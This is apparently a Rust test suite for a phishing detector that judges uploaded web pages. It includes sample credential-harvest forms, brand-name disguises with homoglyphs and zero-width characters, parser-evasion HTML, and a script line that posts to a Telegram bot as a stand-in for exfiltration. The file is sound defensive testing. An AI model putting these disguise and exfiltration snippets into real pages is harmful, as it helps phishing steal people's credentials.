//! The phishing check on the project's own test pages, on disguises, and on adversarial input.

use std::sync::LazyLock;

use dropleaf_inspect::phishing::{File, Lists, OwnLists, Rules, Verdict, check};

use proptest::prelude::*;

use crate::support::{check_bundle, fixtures, upload};

static RULES: LazyLock<Rules> = LazyLock::new(Rules::builtin);

fn judged(html: &str) -> Verdict {
    check(&[File { path: "index.html", text: html }], &RULES)
}

fn rules_of(verdict: &Verdict) -> Vec<&str> {
    verdict.reasons.iter().map(|reason| reason.rule).collect()
}

/// Every test page of one side (`harvest` or `honest`) with its verdict.
fn verdicts(side: &str, rules: &Rules) -> Vec<(String, Verdict)> {
    let judge = |(name, files): (String, Vec<(String, String)>)| {
        let files: Vec<File<'_>> = files.iter().map(|(path, text)| File { path, text }).collect();
        let verdict = check(&files, rules);
        (name, verdict)
    };
    fixtures(side).into_iter().map(judge).collect()
}

#[test]
fn every_harvest_page_is_refused_with_reasons_that_name_a_place() {
    let verdicts = verdicts("harvest", &RULES);
    assert!(verdicts.len() >= 60);
    for (path, verdict) in verdicts {
        assert!(verdict.refused, "{}: {:.2} {:?}", path, verdict.score, rules_of(&verdict));
        let first = &verdict.reasons[0];
        assert!(
            first.line >= 1 && !first.why.is_empty() && !first.fix.is_empty() && !first.why.contains("{}"),
            "{first:?}"
        );
    }
}

#[test]
fn every_honest_page_is_accepted() {
    let verdicts = verdicts("honest", &RULES);
    assert!(verdicts.len() >= 200);
    for (path, verdict) in verdicts {
        assert!(!verdict.refused, "{}: {:.2} {:?}", path, verdict.score, rules_of(&verdict));
    }
}

#[test]
fn most_harvest_pages_are_refused_without_a_look_at_destinations() {
    let verdicts = verdicts("harvest", &Rules::builtin().without('B'));
    let refused = verdicts.iter().filter(|(_, verdict)| verdict.refused).count();
    assert!(refused * 100 >= verdicts.len() * 90, "{refused} of {}", verdicts.len());
}

#[test]
fn a_refusal_says_rule_file_line_and_remedy() {
    let verdict = judged(
        "<title>Demo</title>\n<form\n action='https://collect.invalid/x'>\n<input type=password></form>",
    );
    assert!(verdict.refused);
    let reason = &verdict.reasons[0];
    assert_eq!((reason.rule, reason.file.as_str(), reason.line), ("sent-to-other-site", "index.html", 2));
    assert!(reason.why.contains("collect.invalid"));
}

#[test]
fn the_same_page_in_disguise_is_refused() {
    let page = |brand: &str, field: &str| {
        format!("<title>{brand} login</title><form><input name=user>{field}</form>")
    };
    let field = "<input type=password>";
    for (brand, field) in [
        ("PayPal", field),
        ("P\u{430}yPal", field),
        ("Pay\u{200b}P\u{200d}al", field),
        ("P&#x61;yPal", field),
        ("PAYPAL", field),
        ("p\u{e1}ypal", field),
        ("PayPal", "<INPUT\nTYPE = 'pass&#119;ord'>"),
        ("PayPal", "<input/type=password >"),
        ("PayPal", "<!--><!-- --!><input type=password>"),
        ("PayPal", "<svg><style><div></style><input type=password>"),
        ("PayPal", "<script><!--<script></script><textarea>--></script><input type=password>"),
        ("PayPal", "<noscript><p></noscript><input type=password>"),
        ("PayPal", "<template><input type=password></template>"),
        ("PayPal", "<input name=q placeholder='Mot de passe'>"),
        ("PayPal", "<img src=1.png alt='Contraseña'><input name=q>"),
    ] {
        let verdict = judged(&page(brand, field));
        assert!(verdict.refused, "{brand} {field}: {:.2} {:?}", verdict.score, rules_of(&verdict));
    }
}

#[test]
fn quoted_code_and_mentions_are_not_held_against_a_page() {
    for page in [
        "<h1>Forms</h1><pre>&lt;form action=x.php&gt;&lt;input type=password&gt; PayPal account</pre><input type=password>",
        "<title>Sign in – Acorn</title><form><input type=password></form><button>Sign in with Google</button>",
        "<title>Acorn</title><form action=home.html><input type=password></form><a href=https://facebook.com/acorn>Facebook</a>",
        "<title>PayPal fees explained</title><p>What PayPal charges.</p>",
        "<title>Contact</title><form action=https://formspree.io/f/x><input name=email></form><a href=login.html>Sign in</a>",
    ] {
        let verdict = judged(page);
        assert!(!verdict.refused, "{page}: {:.2} {:?}", verdict.score, rules_of(&verdict));
    }
}

#[test]
fn scripts_of_the_upload_belong_to_the_page_that_loads_them() {
    let page =
        "<title>Sign in</title><form><input type=password></form><script src=./js/send.js?v=1></script>";
    let script = "fetch('https://api.telegram.org/bot1:x/sendMessage')";
    let verdict = check(
        &[File { path: "a/index.html", text: page }, File { path: "a/js/send.js", text: script }],
        &RULES,
    );
    assert!(verdict.refused && rules_of(&verdict).contains(&"sent-to-bot"), "{verdict:?}");
}

#[test]
fn operators_can_add_brands_hosts_words_and_weights() {
    let page = "<title>Log in to Fernway</title><form action=https://relay.fernway.test/in><input name=s placeholder='Mot magique'></form>";
    assert!(!judged(page).refused);
    let rules = Rules::with(Lists {
        brands: "Fernway: fernway @ fernway.test",
        secrets: "[password]\nfr: mot magique",
        hosts: "[relay]\nrelay.fernway.test",
        weights: "[password-field]\ngroup = \"A\"\nweight = 1.1\nwhy = \"Asks.\"\nfix = \"Do not.\"",
        ..Lists::default()
    });
    let verdict = check(&[File { path: "index.html", text: page }], &rules);
    assert!(verdict.refused);
    assert!(verdict.reasons.iter().any(|reason| reason.why == "Asks."));
}

#[test]
fn a_list_of_ones_own_adds_to_the_built_in_one_or_stands_in_for_it() {
    let page =
        "<title>Log in to Fernway</title><form action=https://elsewhere.test/in><input type=password></form>";
    let paypal = "<title>PayPal login</title><form><input type=password></form>";
    let judged_by = |page, rules: &Rules| check(&[File { path: "index.html", text: page }], rules).refused;
    for replaces in [false, true] {
        let mut own = OwnLists::new(replaces);
        own.add("brands.txt", "[mine]\nFernway: fernway @ fernway.test\n".to_owned()).unwrap();
        let rules = own.rules();
        assert!(judged_by(page, &rules), "a name of one's own counts");
        assert_eq!(judged_by(paypal, &rules), !replaces, "the other names count unless the list is replaced");
    }
    let mut own = OwnLists::new(false);
    own.add("weights.toml", "[brand-in-title]\nweight = 0.1\n".to_owned()).unwrap();
    let verdict = check(&[File { path: "index.html", text: paypal }], &own.rules());
    assert!(!verdict.refused, "one weight is changed, what it says stays: {verdict:?}");
    assert!(verdict.reasons.iter().any(|reason| reason.rule == "brand-in-title" && !reason.fix.is_empty()));
}

#[test]
fn no_page_points_to_what_an_operator_blocked() {
    let mut own = OwnLists::new(false);
    own.add("hosts.txt", "[blocked]\nbad.example\nfiles.example/drop\n".to_owned()).unwrap();
    let rules = own.rules();
    let judged_by = |page: &str| check(&[File { path: "index.html", text: page }], &rules);
    let padding = "<p>Words about gardens and what grows there.</p>".repeat(300);
    for page in [
        "<a href='https://www.BAD.example/x'>read</a>".to_owned(),
        format!("{padding}\n<a href=https://bad.example>read</a>"),
        format!("{}<a href=//bad.example>read</a>", "<a href=https://fine.example>a</a>".repeat(6000)),
        "<img src=https://bad.example/p.png>".to_owned(),
        "<iframe src='ht&#116;ps://bad.example/'></iframe>".to_owned(),
        "<form action=https://files.example/drop/1><input name=q></form>".to_owned(),
        "<form><button formaction=https://bad.example>go</button></form>".to_owned(),
        "<script>location = 'https://bad.example/';</script>".to_owned(),
        "<meta http-equiv=refresh content='0; url=https://bad.example/'>".to_owned(),
    ] {
        let verdict = judged_by(&page);
        // A page that only redirects there is also reported for that.
        let others = rules_of(&verdict).into_iter().filter(|rule| *rule != "only-redirect");
        assert!(verdict.refused && others.eq(["blocked-address"]), "{page}: {verdict:?}");
    }
    for page in
        ["<a href=https://notbad.example>x</a>", "<a href=https://files.example/>x</a>", "<p>bad.example</p>"]
    {
        assert!(!judged_by(page).refused, "{page}");
    }
}

#[test]
fn names_in_addresses_are_found_as_readers_see_them() {
    for (slug, name) in [
        ("paypal", "PayPal"),
        ("paypal-login", "PayPal"),
        ("secure-paypa1", "PayPal"),
        ("my-micr0soft-account", "Microsoft"),
        ("paypalsupport", "PayPal"),
        ("www-paypal-com", "PayPal"),
    ] {
        assert_eq!(RULES.brand_in_name(slug), Some(name), "{slug}");
    }
    for slug in ["weekly-report", "apple-pie-recipes", "visage", "banking-notes", "discovery", "my-target"] {
        assert_eq!(RULES.brand_in_name(slug), None, "{slug}");
    }
}

#[test]
fn bundles_are_read_as_they_are_stored() {
    let page = format!(
        "<title>PayPal login</title>{}<form><input type=password></form>",
        "<p>padding</p>".repeat(200)
    );
    let bundle = upload("page.html", page).unwrap();
    assert!(check_bundle(&bundle, &RULES).refused);
    let wide: Vec<u8> = b"\xff\xfe"
        .iter()
        .copied()
        .chain("<title>PayPal login</title><input type=password>".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert!(check_bundle(&upload("page.html", wide).unwrap(), &RULES).refused);
    let markdown = upload("notes.md", "# PayPal\n\nHow to change a password.\n").unwrap();
    assert!(!check_bundle(&markdown, &RULES).refused);
}

/// Fragments that have caused trouble for parsers, in any order.
fn piece() -> impl Strategy<Value = String> {
    let pieces = [
        "<",
        ">",
        "\"",
        "'",
        "=",
        "&",
        ";",
        "&#",
        "&#x",
        "\\",
        "\\u{",
        "`",
        "/*",
        "*/",
        "//",
        "\n",
        "-->",
        "<!--",
        "]]>",
        "<![CDATA[",
        "<script>",
        "</script",
        "<svg>",
        "</svg>",
        "<title>",
        "<textarea>",
        "<pre>",
        "<form action=",
        "<input type=password",
        " name=",
        " style=display:none",
        "<span",
        "atob('",
        "unescape(\"%3C",
        "String.fromCharCode(60,",
        "data:text/html,",
        "data:text/html;base64,PGI+",
        "fetch('",
        ".open('POST',",
        "paypal",
        "password",
        "é",
        "\u{430}",
        "\u{200b}",
        "密码",
        "\u{1d40f}",
        "<iframe srcdoc=",
        "<noframes>",
        "<plaintext>",
        "<label for=a>",
        "0",
        "1",
        "I",
        "copyright",
        "©",
    ];
    prop_oneof![
        proptest::sample::select(pieces.to_vec()).prop_map(str::to_owned),
        any::<char>().prop_map(String::from)
    ]
}

proptest! {
    #[test]
    fn any_page_gets_an_answer(pieces in proptest::collection::vec(piece(), 0..60)) {
        let page = pieces.concat();
        let verdict = check(
            &[File { path: "index.html", text: &page }, File { path: "a.js", text: &page }, File { path: "b.svg", text: &page }],
            &RULES,
        );
        prop_assert!(verdict.score.is_finite());
        let lines = 1 + page.matches('\n').count();
        prop_assert!(verdict.reasons.iter().all(|reason| (1..=lines).contains(&reason.line)));
    }
}

#[test]
fn a_name_that_one_page_of_a_large_site_carries_is_not_that_of_its_sign_in_page() {
    let named = "<title>Spotify</title><h1>Spotify</h1><p>Songs that our band uploaded there.</p>".to_owned();
    let form = "<title>Members</title><form action=login.php><input name=user placeholder='User name'>\
                <input type=password name=password placeholder=Password></form>";
    let is_refused = |others: usize| {
        let mut files =
            vec![("index.html".to_owned(), named.clone()), ("members.html".to_owned(), form.to_owned())];
        files.extend(
            (0..others).map(|n| (format!("{n}.html"), format!("<title>Song {n}</title><p>La la la.</p>"))),
        );
        let files: Vec<File<'_>> = files.iter().map(|(path, text)| File { path, text }).collect();
        check(&files, &RULES).refused
    };
    assert!(is_refused(2));
    assert!(!is_refused(40));
}
